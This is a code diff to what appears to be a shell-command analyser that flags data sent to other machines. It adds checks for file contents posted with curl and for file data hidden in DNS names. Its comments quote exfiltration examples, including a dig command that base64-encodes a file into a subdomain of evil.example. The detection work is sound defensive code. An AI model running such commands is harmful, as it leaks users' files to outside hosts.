@@ -23,6 +23,12 @@ export const sentByInput = (command: ShellCommand): readonly Origin[] =>
     ? []
     : (command.stdin?.origins ?? []);
 
+/** `curl -d "$(cat notes.txt)" …`: the content of a file as the body. */
+const writtenOut = (command: ShellCommand): readonly Origin[] =>
+  argsOf(command).options.flatMap(({ kind, value }) =>
+    kind === 'sends' && value?.text.includes(HOLE) ? value.origins : [],
+  );
+
 /** What a command sends to another machine, beyond what its words say. */
 export function outgoingEffects(command: ShellCommand, world: ShellWorld): Effect[] {
   // The paths are those of another machine.
@@ -31,7 +37,7 @@ export function outgoingEffects(command: ShellCommand, world: ShellWorld): Effec
   const raw = traits.includes('raw-connection');
   const http = traits.includes('http');
   const input = raw || http ? sentByInput(command) : [];
-  const files = [...sentFiles(command), ...input].filter(isContent);
+  const files = [...sentFiles(command), ...writtenOut(command), ...input].filter(isContent);
   const archived =
     http && !isNearby(command) && !hasLogin(argsOf(command)) && (files.some(isArchive) || isPacked(input));
   return [
@@ -83,16 +89,16 @@ const NAMED_HOST = /^(?:[a-z][\w+.-]*:\/\/)?(?:[^@/\s]*@)?([^:/?#\s]+)/i;
 
 /** `dig $(base64 notes.txt).evil.example`: whoever answers for the domain reads what stands before it. */
 export function hiddenInNames(command: ShellCommand): Effect[] {
-  const hides = (w: Word) =>
-    /\0[\w-]*\./.test(NAMED_HOST.exec(w.text)?.[1] ?? '') &&
-    w.text.includes(HOLE) &&
-    w.origins.some(isEncoded);
-  return leaves(command, 'send-in-name', command.words.slice(1).find(hides)?.origins ?? []);
+  const hides = (w: Word) => {
+    const host = NAMED_HOST.exec(w.text)?.[1] ?? '';
+    // Where all of the text is known, only a bare name is sure to hold what was encoded.
+    const isBare = host === w.text && /\.[a-z]/i.test(host);
+    return w.origins.some((o) => isEncoded(o) && (o.kind === 'command' ? isBare : /\0[\w-]*\./.test(host)));
+  };
+  return leaves(command, 'send-in-name', argsOf(command).operands.find(hides)?.origins ?? []);
 }
 
 const isEncoded = ({ kind, what }: Origin) =>
   kind === 'file'
     ? /\.(hex|b64|b32|base64|base32|enc)$/i.test(what)
-    : kind === 'decoded' &&
-      hasTrait(what.split(' ')[0] ?? '', 'encodes') &&
-      !/\s(-\w*[dDr]|--decode|-reverse)\b/.test(what);
+    : hasTrait(what.split(' ', 1)[0] ?? '', 'encodes') && !/\s(-\w*[dDr]|--decode|-reverse)\b/.test(what);
